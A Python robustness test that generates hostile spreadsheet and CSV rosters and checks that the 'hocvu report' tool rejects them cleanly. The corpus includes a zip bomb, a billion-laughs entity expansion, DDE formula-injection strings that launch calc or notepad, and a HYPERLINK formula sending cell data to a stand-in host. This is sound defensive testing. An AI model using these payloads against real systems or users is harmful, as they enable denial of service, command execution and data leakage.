#!/usr/bin/python3
"""Hostile rosters through `hocvu report`: a clear finding naming the file, in bounded time and
memory, never a crash.

    /usr/bin/python3 tests/report/hostile_rosters.py --hocvu build/hocvu --source . --results DIR [-k NAME] [--keep]

DIR is a folder written by `hocvu grade` (any: the rosters here are what is hostile). The corpus
is made at test time in a scratch folder (see CORPUS): xlsx files that are a zip bomb of zeros,
not a zip at all, a truncated zip, a zip without a workbook, shared strings out of range, a sheet
of a million empty rows, entity expansion behind a DOCTYPE, a cell past Excel's limit, a sheet
asked for that does not exist; CSV files with formula-injection payloads, legacy encodings
(TCVN3, Windows-1258) read as UTF-8, UTF-16, a quote that never closes, random bytes, nothing.
Each roster is reported alone, from the repository root:

    hocvu report --roster F --results DIR --data framework --units reports/units.yaml
                 --targets reports/targets.yaml --as-of 2026-12-01 --out OUT.json [extra args]

and passes when hocvu exits with one of the statuses the case allows (1: the report lists data
problems; 2: the roster cannot be read), never by a signal, within TIMEOUT_SECONDS, under
RLIMIT_AS of 2 GiB (not with HOCVU_SANITIZED=1 or --sanitized: AddressSanitizer reserves
terabytes of address space), with no sanitizer report, and names the roster (its file name) on
stderr, or in OUT.json when it exits 1. Prints one line per file and 'N passed, M failed'; exits
1 when any failed, keeping the scratch folder.
"""
import argparse
import io
import os
import random
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile

TIMEOUT_SECONDS = 60
ADDRESS_SPACE_BYTES = 2 << 30
SANITIZED_FACTOR = 3
BAD_STDERR = ("AddressSanitizer", "LeakSanitizer", "UndefinedBehaviorSanitizer", "runtime error", "internal error")

WORKSHEET = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
SHARED_STRINGS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


# ---------------------------------------------------------------------------------------------
# Workbooks, part by part (zipfile), so that any part can be wrong.

def workbook_parts(sheet, strings=(), sheet_name="Danh sách"):
    sst = "".join(f"<si><t>{s}</t></si>" for s in strings)
    return {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "xl/workbook.xml": f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" '
                           'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                           f'<sheets><sheet name="{sheet_name}" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships '
                                      'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                                      f'<Relationship Id="rId1" Type="{WORKSHEET}" Target="worksheets/sheet1.xml"/>'
                                      f'<Relationship Id="rId2" Type="{SHARED_STRINGS}" Target="sharedStrings.xml"/>'
                                      '</Relationships>',
        "xl/worksheets/sheet1.xml": sheet,
        "xl/sharedStrings.xml": f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}">{sst}</sst>',
    }


def zip_bytes(parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in parts.items():
            z.writestr(name, content.encode("utf-8") if isinstance(content, str) else content)
    return buffer.getvalue()


def sheet_xml(rows):
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'


def inline_row(number, cells):
    xml = "".join(f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{text}</t></is></c>' for i, text in enumerate(cells))
    return f'<row r="{number}">{xml}</row>'


HEADER = ["Mã cán bộ", "Họ và tên", "Đơn vị", "Vai trò"]
UNKNOWN = ["HS-0001", "Nguyễn Văn An", "KHONG-CO-DON-VI", "khong-co-vai-tro"]  # unknown unit and role: exit 1


def zip_bomb_zeros():
    parts = workbook_parts(sheet_xml(""))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in parts.items():
            if name != "xl/worksheets/sheet1.xml":
                z.writestr(name, content)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            block = bytes(1 << 20)
            for _ in range(1536):  # 1.5 GiB of zeros in about 1.5 MB
                part.write(block)
    return buffer.getvalue()


def not_a_zip():
    return b"this is no workbook, only text saved under the name .xlsx\n"


def truncated_zip():
    data = zip_bytes(workbook_parts(sheet_xml(inline_row(1, HEADER) + inline_row(2, UNKNOWN))))
    return data[: len(data) // 2]


def zip_without_workbook():
    return zip_bytes({"word/document.xml": "<w:document/>"})


def shared_strings_out_of_range():
    strings = HEADER + UNKNOWN
    row1 = "".join(f'<c r="{chr(65 + i)}1" t="s"><v>{i}</v></c>' for i in range(4))
    row2 = "".join(f'<c r="{chr(65 + i)}2" t="s"><v>{4 + i}</v></c>' for i in range(4))
    bad = '<row r="3"><c r="A3" t="s"><v>999999</v></c><c r="B3" t="s"><v>-1</v></c></row>'
    return zip_bytes(workbook_parts(sheet_xml(f'<row r="1">{row1}</row><row r="2">{row2}</row>{bad}'), strings))


def million_empty_rows():
    rows = [inline_row(1, HEADER)] + [f'<row r="{r}"/>' for r in range(2, 1_000_002)]
    rows.append(inline_row(1_000_002, UNKNOWN))
    return zip_bytes(workbook_parts(sheet_xml("".join(rows))))


def billion_laughs():
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    parts = workbook_parts(sheet_xml(inline_row(1, HEADER)))
    parts["xl/sharedStrings.xml"] = f'<?xml version="1.0"?><!DOCTYPE lolz [{entities}]><sst><si><t>&lol9;</t></si></sst>'
    return zip_bytes(parts)


def huge_cell():
    return zip_bytes(workbook_parts(sheet_xml(inline_row(1, HEADER) + inline_row(2, UNKNOWN[:1] + ["x" * 40000] + UNKNOWN[2:]))))


def named_sheet_missing():
    return zip_bytes(workbook_parts(sheet_xml(inline_row(1, HEADER) + inline_row(2, UNKNOWN))))


def csv_injection():
    payloads = ["=cmd|' /C calc'!A0", "+1+cmd|' /C notepad'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
                '=HYPERLINK("http://example.invalid/?x="&A1,"bấm")', "\t=1+1", "\r=1+1"]
    lines = ["person_id,full_name,unit,role"]
    for i, p in enumerate(payloads):
        quoted = '"' + p.replace('"', '""') + '"'
        lines.append(f"INJ-{i},{quoted},{quoted},{quoted}")
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


def tcvn3_as_utf8():
    return b"M\xA8 c\xB8n b\xe9,H\xe4 v\xb5 t\xaan,\xAE\xAAn v\xDE,Vai tr\xdf\nHS-1,Vi\xD6t Nam,VP,dbqh\n"


def windows1258_as_utf8():
    return b"id,name,unit,role\nHS-1,Vi\xEA\xF2t Nam,VP,dbqh\nHS-2,Qu\xF4\xEC" b"c h\xF4\xF2i,VP,dbqh\n"


def utf16_without_encoding():
    return "\ufeffperson_id,unit,role\nHS-1,VP,dbqh\n".encode("utf-16-le")


def unclosed_quote():
    return ("person_id,unit,role\n" + '"HS-1,VP,dbqh\n' + "\n".join(f"HS-{i},KHONG-CO,x" for i in range(2, 50)) + "\n").encode()


def random_bytes():
    return random.Random(8).randbytes(1 << 20)


def empty():
    return b""


# name -> (bytes, exit statuses allowed, extra arguments)
CORPUS = {
    "zip_bomb_zeros.xlsx": (zip_bomb_zeros, (2,), []),
    "not_a_zip.xlsx": (not_a_zip, (2,), []),
    "truncated_zip.xlsx": (truncated_zip, (2,), []),
    "zip_without_workbook.xlsx": (zip_without_workbook, (2,), []),
    "shared_strings_out_of_range.xlsx": (shared_strings_out_of_range, (1,), []),
    "million_empty_rows.xlsx": (million_empty_rows, (1,), []),
    "billion_laughs.xlsx": (billion_laughs, (2,), []),
    "huge_cell.xlsx": (huge_cell, (1,), []),
    "named_sheet_missing.xlsx": (named_sheet_missing, (2,), ["--sheet", "Không có"]),
    "csv_injection.csv": (csv_injection, (1,), []),
    "tcvn3_as_utf8.csv": (tcvn3_as_utf8, (1, 2), []),
    "windows1258_as_utf8.csv": (windows1258_as_utf8, (1,), []),
    "utf16_without_encoding.csv": (utf16_without_encoding, (1, 2), []),
    "unclosed_quote.csv": (unclosed_quote, (1,), []),
    "random_bytes.csv": (random_bytes, (2,), []),
    "empty.csv": (empty, (2,), []),
}


# ---------------------------------------------------------------------------------------------

def limits(sanitized):
    def apply():
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
        if not sanitized:
            resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE_BYTES, ADDRESS_SPACE_BYTES))
    return apply


def run_case(name, opts, scratch):
    make, allowed, extra = CORPUS[name]
    roster = os.path.join(scratch, name)
    with open(roster, "wb") as f:
        f.write(make())
    out = os.path.join(scratch, name + ".report.json")
    args = [os.path.abspath(opts.hocvu), "report", "--roster", roster, "--results", os.path.abspath(opts.results),
            "--data", "framework", "--units", "reports/units.yaml", "--targets", "reports/targets.yaml",
            "--as-of", "2026-12-01", "--out", out] + extra
    factor = SANITIZED_FACTOR if opts.sanitized else 1
    start = time.monotonic()
    proc = subprocess.Popen(args, cwd=opts.source, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                            preexec_fn=limits(opts.sanitized), start_new_session=True)
    try:
        _, stderr = proc.communicate(timeout=TIMEOUT_SECONDS * factor)
        status = proc.returncode
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        _, stderr = proc.communicate()
        status = None
    seconds = time.monotonic() - start
    text = stderr.decode("utf-8", "replace")
    problems = []
    if status is None:
        problems.append(f"did not finish in {TIMEOUT_SECONDS * factor} s")
    elif status < 0:
        problems.append(f"killed by signal {signal.Signals(-status).name}")
    elif status not in allowed:
        problems.append(f"exit status {status}, expected one of {allowed}")
    problems += [f"stderr holds '{bad}'" for bad in BAD_STDERR if bad in text]
    named = name in text
    if status == 1 and not named and os.path.exists(out):
        with open(out, encoding="utf-8", errors="replace") as f:
            named = name in f.read()
    if status in (1, 2) and not named:
        problems.append(f"neither stderr nor the report names {name}")
    verdict = "ok  " if not problems else "FAIL"
    print(f"{verdict} {name}: exit {status}, {seconds:.2f} s" + "".join(f"\n       {p}" for p in problems)
          + (f"\n       stderr: {text.strip()[:2000]}" if problems else ""), flush=True)
    os.remove(roster)  # the big ones add up
    return not problems


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--hocvu", required=True)
    parser.add_argument("--source", required=True, help="the repository root")
    parser.add_argument("--results", required=True, help="a folder written by hocvu grade")
    parser.add_argument("--sanitized", action="store_true", help="an ASan/UBSan build: longer limits, no RLIMIT_AS")
    parser.add_argument("-k", default="", help="only the files whose name contains this")
    parser.add_argument("--keep", action="store_true", help="keep the scratch folder")
    opts = parser.parse_args()
    opts.sanitized = opts.sanitized or os.environ.get("HOCVU_SANITIZED") == "1"
    scratch = tempfile.mkdtemp(prefix="hocvu-hostile-rosters-")
    names = [n for n in CORPUS if opts.k in n]
    passed = sum(run_case(name, opts, scratch) for name in names)
    failed = len(names) - passed
    print(f"{passed} passed, {failed} failed")
    if failed or opts.keep:
        print(f"scratch folder kept: {scratch}")
    else:
        shutil.rmtree(scratch, ignore_errors=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
